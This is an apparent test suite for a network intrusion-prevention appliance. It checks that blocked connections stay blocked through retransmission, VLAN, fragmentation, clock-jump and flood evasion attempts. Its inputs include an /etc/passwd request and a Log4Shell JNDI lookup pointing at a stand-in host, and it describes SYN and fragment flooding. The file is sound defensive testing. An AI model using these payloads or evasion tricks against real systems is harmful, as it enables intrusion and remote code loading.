/** Attacks on what the appliance remembers: condemned connections, VLANs, ports, wires, tables, clocks, its own mistakes. */
import test from 'ava';
import { Lab } from '../helpers/evasion-lab.js';
import { ACK, MAC_SERVER, PSH, SYN, addresses, ethernet, ipv4, latin1, tcpSegment } from '../helpers/wire.js';

const ATTACK = 'GET /etc/passwd HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\n\r\n';
const HARMLESS = ATTACK.replace('passwd', 'pesswd');

function inPieces(lab: Lab, text: string, step: number): void {
  for (let at = 0; at < text.length; at += step) lab.send(at, text.slice(at, at + step));
}

test('data that a packet rule dropped does not come back in other portions', (t) => {
  const text = 'first line\nSMALL-EVIL\n';
  for (const step of [1, 3, 8]) {
    const lab = new Lab({ serverPort: 4444 });
    lab.handshake();
    lab.send(0, text);
    inPieces(lab, text, step);
    t.false(lab.host.text.includes('SMALL-EVIL'), `step ${step}: ${lab.host.text}`);
    lab.close();
  }
});

test('a condemned connection stays condemned: later data, resets, another SYN, time', (t) => {
  const lab = new Lab();
  lab.handshake();
  lab.send(0, ATTACK);
  lab.send(0, HARMLESS);
  lab.send(ATTACK.length, HARMLESS);
  lab.put(0, lab.frame(-1, '', { flags: SYN, ack: 0 }));
  lab.put(0, lab.frame(0, '', { flags: 4 }));
  lab.wait(5);
  inPieces(lab, ATTACK, 2);
  t.is(lab.host.text, '');
  lab.close();
});

test('a connection after a condemned one, under the same addresses, is judged from its beginning', (t) => {
  const lab = new Lab({ isn: 77 });
  lab.handshake();
  lab.send(0, ATTACK);
  lab.now += 1_000_000;
  for (let i = 0; i < 5; i++) lab.session.maintain(++lab.now);
  lab.handshake();
  lab.send(0, HARMLESS);
  t.is(lab.host.text, HARMLESS);
  lab.close();
});

test('an engine that throws takes the whole connection: a repetition does not pass as known', (t) => {
  const lab = new Lab();
  lab.handshake();
  const { plane } = lab.session;
  const data = plane.data.bind(plane);
  plane.data = () => {
    throw new Error('provoked');
  };
  lab.send(0, ATTACK);
  plane.data = data;
  t.is(lab.errors, 1);
  lab.send(0, ATTACK);
  inPieces(lab, ATTACK, 5);
  t.is(lab.host.text, '');
  t.is(lab.unaccounted, 0);
  lab.close();
});

test('all transactions of a burst are judged, however many one packet completes', (t) => {
  for (const text of [ATTACK + 'GET / HTTP/1.1\r\n\r\n'.repeat(1500), 'GET / HTTP/1.1\r\n\r\n'.repeat(1500) + ATTACK]) {
    const lab = new Lab();
    lab.handshake();
    const steps: number[] = [];
    for (let at = 0; at < text.length; at += 1400) steps.push(at);
    // The first segment comes last: everything is handed to the parser at once.
    for (const at of steps.toReversed()) lab.send(at, text.slice(at, at + 1400));
    t.is(lab.host.text, '', JSON.stringify(lab.drops));
    lab.close();
  }
});

test('a frame to many ports is judged by the strictest of them', (t) => {
  const lab = new Lab({ modes: ['off', 'prevent'] });
  const d = lab.udp('EVIL-DATAGRAM-MARKER');
  lab.put(0, ethernet(0, lab.packet(0, d, { proto: 17 }), { dstMac: [255, 255, 255, 255, 255, 255] }));
  lab.put(0, ethernet(0, lab.packet(0, d, { proto: 17 }), { dstMac: [1, 0, 0x5e, 1, 2, 3] }));
  t.deepEqual(lab.host.datagrams, []);
  lab.close();
});

// ---- VLANs, ports and wires ----------------------------------------------------------------------------------------------

test('a connection between an access port and a trunk is one connection', (t) => {
  for (const text of [HARMLESS, ATTACK]) {
    const lab = new Lab({ ports: [{ name: 'client', vlan: { mode: 'access', id: 10 } }, { name: 'server', vlan: { mode: 'trunk' } }] });
    const tagged = { link: { tags: [{ tpid: 0x8100, tci: 10 }] } };
    lab.put(1, ethernet(1, Uint8Array.from({ length: 46 }), { srcMac: MAC_SERVER, dstMac: [255, 255, 255, 255, 255, 255], ...tagged.link }, 0x88b5));
    lab.put(0, lab.frame(-1, '', { flags: SYN, ack: 0 }));
    lab.answer(SYN | ACK, { seq: 0x1000, ...tagged });
    lab.put(0, lab.frame(0, '', { flags: ACK }));
    lab.put(0, lab.frame(0, text));
    t.is(lab.host.text, text === HARMLESS ? HARMLESS : '', JSON.stringify(lab.drops));
    lab.close();
  }
});

test('equal addresses in two access VLANs do not share a connection', (t) => {
  const vlan = (id: number) => ({ mode: 'access', id }) as const;
  const lab = new Lab({ ports: [{ name: 'c10', vlan: vlan(10) }, { name: 's10', vlan: vlan(10) }, { name: 'c20', vlan: vlan(20) }, { name: 's20', vlan: vlan(20) }] });
  lab.handshake();
  // The neighbour in VLAN 20 has no handshake: its segment belongs to nobody's connection.
  lab.put(2, lab.frame(0, junk(ATTACK.length)));
  t.is(lab.ports[3]!.take().length, 0);
  lab.send(0, HARMLESS);
  t.is(lab.host.text, HARMLESS);
  lab.close();
});

test('one connection over two wires, in front of a router and behind it', (t) => {
  for (const text of [HARMLESS, ATTACK]) {
    const lab = new Lab({ ports: [{ name: 'a', forwardTo: 'b' }, { name: 'b', forwardTo: 'a' }, { name: 'c', forwardTo: 'd' }, { name: 'd', forwardTo: 'c' }] });
    lab.handshake();
    const a = addresses(0);
    const second = (flags: number, data: string): void => {
      const segment = tcpSegment(a, { srcPort: 40_000, dstPort: 80, seq: lab.isn + (flags === SYN ? 0 : 1), ack: flags === SYN ? 0 : 0x1001, flags, data: latin1(data) });
      lab.put(2, ethernet(0, ipv4(a, { proto: 6, ttl: 63 }, segment)));
    };
    second(SYN, '');
    lab.send(0, text);
    t.is(lab.host.text, text === HARMLESS ? HARMLESS : '');
    t.is(lab.ports[3]!.take().length, 1, 'the SYN behind the router opens a connection of its own');
    second(ACK | PSH, text);
    t.is(lab.ports[3]!.take().length, 0, 'which has seen no answer yet');
    lab.close();
  }
});

test('a client cannot answer itself', (t) => {
  const lab = new Lab();
  lab.put(0, lab.frame(-1, '', { flags: SYN, ack: 0 }));
  const before = lab.returned.length;
  lab.answer(SYN | ACK, { seq: 0x5000 }, 0);
  t.deepEqual(lab.drops, { ct_invalid: 1 });
  t.is(lab.returned.length, before);
  lab.close();
});

// ---- answers, clocks, bounds -----------------------------------------------------------------------------------------------

test('a reject rule answers once per connection, and not answers', (t) => {
  const lab = new Lab();
  lab.handshake();
  const request = 'GET / HTTP/1.1\r\nHost: a\r\nX: ${jndi:ldap://e/a}\r\n\r\n';
  for (let i = 0; i < 50; i++) lab.put(0, lab.frame(0, request));
  const resets = lab.returned.filter((f) => f[14 + 9] === 6 && (f[14 + 20 + 13]! & 4) !== 0);
  t.is(resets.length, 1);
  t.is(lab.host.text, '');
  lab.close();
});

test('clocks that jump: nothing throws, nothing is forgotten that should not be', (t) => {
  const lab = new Lab();
  lab.handshake();
  lab.send(0, ATTACK.slice(0, 20));
  lab.now -= 500_000;
  lab.session.maintain(lab.now);
  lab.send(20, ATTACK.slice(20));
  t.false(lab.host.text.includes('\r\n\r\n'));
  lab.now = 0;
  lab.session.maintain(0);
  lab.now = 2_000_000_000;
  lab.session.maintain(lab.now);
  lab.send(0, ATTACK);
  t.is(lab.errors, 0);
  t.is(lab.unaccounted, 0);
  lab.close();
});

test('a flood of half-open connections does not blind the appliance', (t) => {
  const lab = new Lab({ settings: { flowMax: 64 } });
  const a = addresses(0);
  for (let port = 1; port < 3000; port++) {
    const syn = tcpSegment(a, { srcPort: port, dstPort: 80, seq: port, ack: 0, flags: SYN });
    lab.ports[0]!.put({ bytes: ethernet(0, ipv4(a, { proto: 6 }, syn)), tsSec: lab.now });
  }
  while (lab.session.step(0) > 0);
  t.is(lab.session.table.active, 64);
  lab.handshake();
  lab.send(0, ATTACK);
  t.is(lab.host.text, '');
  t.is(lab.unaccounted, 0);
  lab.close();
});

test('a flood of fragments does not open a way for others', (t) => {
  const lab = new Lab();
  lab.handshake();
  const a = addresses(0);
  for (let id = 1; id < 2000; id++) lab.ports[0]!.put({ bytes: ethernet(0, ipv4(a, { proto: 6, id, more: true }, new Uint8Array(24))), tsSec: lab.now });
  while (lab.session.step(0) > 0);
  lab.ports[1]!.take();
  const segment = lab.segment(0, latin1(ATTACK));
  for (let at = 0; at < segment.length; at += 8) lab.fragment(segment, at, Math.min(segment.length, at + 8), 40_000);
  t.is(lab.host.text, '');
  // The flood and the attack come from one VM: its share of the table is what is used up.
  t.true((lab.drops['defrag_budget'] ?? 0) > 0);
  lab.close();
});

test('more held segments than fit are refused, not let through unseen', (t) => {
  const lab = new Lab();
  lab.handshake();
  const body = HARMLESS + ' '.repeat(4000) + ATTACK;
  // Every second byte is left out at first.
  for (let at = 1; at < body.length; at += 2) lab.send(at, body.slice(at, at + 1));
  for (let at = 0; at < body.length; at += 2) lab.send(at, body.slice(at, at + 1));
  t.true((lab.drops['stream_memcap'] ?? 0) > 0);
  t.false(lab.host.text.includes(ATTACK));
  lab.close();
});

function junk(n: number): string {
  return 'X'.repeat(n);
}
